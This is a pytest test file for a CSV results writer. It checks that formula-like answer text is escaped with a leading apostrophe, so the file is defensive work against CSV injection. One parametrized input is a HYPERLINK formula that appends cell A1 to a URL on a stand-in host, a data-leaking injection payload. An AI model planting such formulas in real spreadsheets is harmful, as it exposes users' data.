"""A batch's CSV results (`producer/batch_csv.py`): an agent's text never becomes a
spreadsheet formula, and a resumed run still recognises the inputs it wrote."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from producer.batch_csv import CsvResults

SCHEMA = {"type": "object", "properties": {"title": {"type": "string"},
                                           "score": {"type": "number"}}}


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1",
                                  "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_answer_text_that_a_spreadsheet_would_run_is_written_as_text(
        tmp_path: Path, text: str) -> None:
    out = CsvResults(tmp_path / "r.csv", SCHEMA)
    out.rewrite([{"id": "a", "status": "succeeded", "output": {"title": text, "score": -2}}])
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as f:
        header, row = list(csv.reader(f))
    assert header == ["id", "title", "score", "status", "error"]
    assert row[1] == "'" + text  # shown as the text, never evaluated
    assert row[2] == "-2"  # a number stays a number


def test_plain_text_is_written_as_it_is(tmp_path: Path) -> None:
    out = CsvResults(tmp_path / "r.csv", SCHEMA)
    out.rewrite([{"id": "a", "status": "succeeded", "output": {"title": "a = b", "score": 1}}])
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as f:
        assert list(csv.reader(f))[1][:3] == ["a", "a = b", "1"]


def test_an_error_message_and_an_input_id_are_guarded_and_the_id_reads_back(
        tmp_path: Path) -> None:
    out = CsvResults(tmp_path / "r.csv", SCHEMA)
    out.rewrite([{"id": "-7", "status": "failed",
                  "error": {"category": "output_invalid", "message": "=1"}}])
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as f:
        row = list(csv.reader(f))[1]
    assert row[0] == "'-7" and row[-1] == "output_invalid: =1"
    # a resume matches the input by its real id
    (line,) = out.read()
    assert line["id"] == "-7" and line["status"] == "failed"
